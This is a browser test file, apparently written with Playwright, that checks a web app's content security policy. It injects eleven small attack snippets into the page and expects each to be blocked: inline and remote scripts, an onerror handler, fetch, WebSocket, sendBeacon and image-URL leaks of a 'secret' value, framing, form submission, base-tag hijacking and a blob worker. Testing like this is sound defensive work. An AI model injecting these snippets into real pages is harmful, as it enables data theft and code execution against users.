import { expect, test } from './fixtures.ts';
import { startTrapServer } from './support/trap-server.ts';

// What a script that got into the page would try; and the rule of the content security policy that
// has to stop it.

const attacks: readonly { rule: string; name: string; run: (trapUrl: string) => void }[] = [
  {
    rule: 'script-src-elem',
    name: 'run an inline script',
    run() {
      const script = document.createElement('script');
      script.textContent = 'window.wasRun = true';
      document.body.append(script);
    },
  },
  {
    rule: 'script-src-elem',
    name: 'run a script of another server',
    run(trapUrl) {
      const script = document.createElement('script');
      script.src = trapUrl;
      document.body.append(script);
    },
  },
  {
    rule: 'script-src-attr',
    name: 'run an event handler in HTML',
    run() {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.wasRun = true');
      image.src = 'data:,';
      document.body.append(image);
    },
  },
  {
    rule: 'connect-src',
    name: 'fetch from another server',
    run: (trapUrl) => void fetch(trapUrl).catch(() => undefined),
  },
  {
    rule: 'connect-src',
    name: 'open a socket to another server',
    run: (trapUrl) => void new WebSocket(trapUrl.replace('http', 'ws')),
  },
  {
    rule: 'connect-src',
    name: 'send a beacon to another server',
    run: (trapUrl) => void navigator.sendBeacon(trapUrl, 'secret'),
  },
  {
    rule: 'img-src',
    name: 'load a picture of another server',
    run(trapUrl) {
      new Image().src = `${trapUrl}?secret`;
    },
  },
  {
    rule: 'frame-src',
    name: 'frame another server',
    run(trapUrl) {
      const frame = document.createElement('iframe');
      frame.src = trapUrl;
      document.body.append(frame);
    },
  },
  {
    rule: 'form-action',
    name: 'send a form',
    run(trapUrl) {
      const form = document.createElement('form');
      form.action = trapUrl;
      document.body.append(form);
      form.submit();
    },
  },
  {
    rule: 'base-uri',
    name: 'move the base of all links',
    run(trapUrl) {
      const base = document.createElement('base');
      base.href = trapUrl;
      document.head.append(base);
    },
  },
  {
    rule: 'worker-src',
    name: 'start a worker of its own',
    run() {
      const url = URL.createObjectURL(new Blob(['postMessage(1)']));
      new Worker(url);
    },
  },
];

test('the content security policy stops each of them', async ({ page, consoleWatch }) => {
  // Chromium reports each violation, and what could not be loaded.
  consoleWatch.accept(/Content Security Policy|Failed to load|SecurityError/);
  await page.getByRole('list', { name: 'Videos' }).waitFor();
  const trap = await startTrapServer();
  for (const { rule, name, run } of attacks) {
    await test.step(`${name}: ${rule}`, async () => {
      const violated = page.evaluate(nextViolation);
      await page.evaluate(run, trap.url);
      expect(await violated).toBe(rule);
    });
  }
  await trap.close();
  expect(trap.requests).toEqual([]);
  expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
});

function nextViolation(): Promise<string> {
  return new Promise((resolve) => {
    addEventListener(
      'securitypolicyviolation',
      ({ effectiveDirective }) => resolve(effectiveDirective),
      { once: true },
    );
  });
}
